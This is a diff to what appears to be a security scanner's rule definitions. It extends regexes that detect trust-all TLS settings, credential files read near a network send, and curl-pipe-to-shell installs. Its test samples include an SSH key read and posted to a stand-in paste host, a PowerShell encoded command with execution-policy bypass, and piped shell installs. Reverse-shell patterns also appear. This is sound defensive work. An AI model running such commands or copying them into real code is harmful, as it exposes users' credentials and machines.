@@ -148,7 +148,7 @@ R(C, "java-insecure-random", "java.util.Random / Math.random for a token, passwo
   ['String token = Long.toHexString(new Random().nextLong());', 'int resetCode = (int) (Math.random() * 1000000);'],
   ['byte[] token = new byte[32]; new SecureRandom().nextBytes(token);', 'int jitter = new Random().nextInt(100);'])
 R(C, "java-trust-all", "trust-all TrustManager / host-name verifier", "high", "CWE-295",
-  r"\b(?:TrustAllCerts|trustAllCerts|TrustAllStrategy|TrustSelfSignedStrategy|NoopHostnameVerifier|ALLOW_ALL_HOSTNAME_VERIFIER)\b|setHostnameVerifier\([^\n]{0,60}->[ \t]*true",
+  r"\b(?:TrustAllCerts|trustAllCerts|TrustAllStrategy|TrustSelfSignedStrategy|NoopHostnameVerifier|ALLOW_ALL_HOSTNAME_VERIFIER)\b|set(?:Default|SSL)?HostnameVerifier\([^\n]{0,60}->[ \t]*true",
   ["trust", "HostnameVerifier"], ["java"], TLS_REM,
   ['sc.init(null, trustAllCerts, new SecureRandom());', 'conn.setHostnameVerifier((hostname, session) -> true);',
    'HttpClients.custom().setSSLHostnameVerifier(NoopHostnameVerifier.INSTANCE).build();'],
@@ -543,7 +543,7 @@ R(B, "powershell-encoded-command", "PowerShell with an encoded command", "high",
    ('subprocess.call(["powershell", "-ep", "bypass", "-EncodedCommand", "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA"])', "x.py")],
   [("powershell -File build.ps1 -Configuration Release", "build.ps1")])
 R(B, "credential-file-read-send", "credential file (~/.ssh, ~/.aws, .netrc, docker or kube config, keychain) read near a network send", "critical", "CWE-522",
-  r"(?:\.ssh/id_(?:rsa|dsa|ecdsa|ed25519)\b|\.aws/credentials|\.netrc|\.git-credentials|\.docker/config\.json|\.kube/config|find-generic-password|find-internet-password|Login Data|Local State)[\s\S]{0,300}(?:requests\.(?:post|put)|urlopen|httpx\.post|\bfetch\(|axios\.post|https?\.request|http\.Post|\bcurl\b|\bwget\b|sendall|\.send\(|UploadString|PostAsync|Net::HTTP\.post|socket\.connect)|\bcurl\b[^\n]{0,100}[ \t](?:-d|--data(?:-binary)?|-F|-T|--upload-file)[ \t]+[\"']?(?:[a-z]+=)?@?(?:~|\$HOME|\$\{HOME\})/\.(?:aws/credentials|ssh/id_[a-z0-9]+|netrc|git-credentials|docker/config\.json|kube/config)",
+  r"(?:\.ssh/id_(?:rsa|dsa|ecdsa|ed25519)\b|\.aws/credentials|\.netrc|\.git-credentials|\.docker/config\.json|\.kube/config|find-generic-password|find-internet-password|Login Data|Local State)[\s\S]{0,300}(?:requests\.(?:post|put)|urlopen|httpx\.post|\bfetch\(|axios\.post|https?\.request|http\.Post|\bcurl\b|\bwget\b|sendall|\.send\(|UploadString|PostAsync|Net::HTTP\.post|socket\.connect|curl_easy_perform|CURLOPT_POST)|\bcurl\b[^\n]{0,100}[ \t](?:-d|--data(?:-binary)?|-F|-T|--upload-file)[ \t]+[\"']?(?:[a-z]+=)?@?(?:~|\$HOME|\$\{HOME\})/\.(?:aws/credentials|ssh/id_[a-z0-9]+|netrc|git-credentials|docker/config\.json|kube/config)",
   [".ssh/id_", ".aws/credentials", ".netrc", ".git-credentials", ".docker/config.json", ".kube/config", "find-generic-password", "find-internet-password", "Login Data"], None,
   "Remove the code path; nothing in the project should read user credentials and send them off the machine.",
   [('key = open(os.path.expanduser("~/.ssh/id_rsa")).read()\nrequests.post("https://paste.dropzone.cc/api", data={"k": key})', "sync.py"),
@@ -580,7 +580,9 @@ R(B, "curl-pipe-shell", "download piped straight into a shell", "high", "CWE-494
   r"\b(?:curl|wget)\b[^\n|;]{0,200}\|[ \t]*(?:sudo[ \t]+(?:-[A-Za-z]+[ \t]+)*)?(?:ba|z|da|k)?sh\b", ["curl", "wget"], None,
   "Download to a file, verify its checksum or signature, review it, then run it.",
   [("curl -fsSL https://get.toolhub.dev/install.sh | sh", "install.sh"), ("RUN wget -qO- https://dl.cli-kit.io/setup | sudo -E bash", "Dockerfile")],
-  [("curl -fsSL -o install.sh https://get.toolhub.dev/install.sh && sha256sum -c install.sh.sha256", "install.sh"), ("curl -s https://api.acme.io/v1 | jq .items", "x.sh")])
+  [("curl -fsSL -o install.sh https://get.toolhub.dev/install.sh && sha256sum -c install.sh.sha256", "install.sh"), ("curl -s https://api.acme.io/v1 | jq .items", "x.sh"),
+   ("Install with `curl -fsSL https://get.toolhub.dev/install.sh | sh`.", "README.md")],
+  allow={"paths": [r"(?i)\.(?:md|markdown|rst|adoc|txt)$"]})
 R(B, "reverse-shell", "reverse shell to a remote host", "critical", "CWE-506",
   r"/dev/tcp/" + HOST + r"/[0-9]{1,5}|\b(?:nc|ncat|netcat)\b[^\n]{0,40}[ \t]-[A-Za-z]*e[ \t]+(?:/bin/)?(?:ba)?sh\b|\bpty\.spawn\([ \t]*[\"'](?:/bin/)?(?:ba)?sh[\"']",
   ["/dev/tcp/", "nc", "ncat", "netcat", "pty.spawn"], None, "Remove it: this hands a shell on the machine to a remote host.",
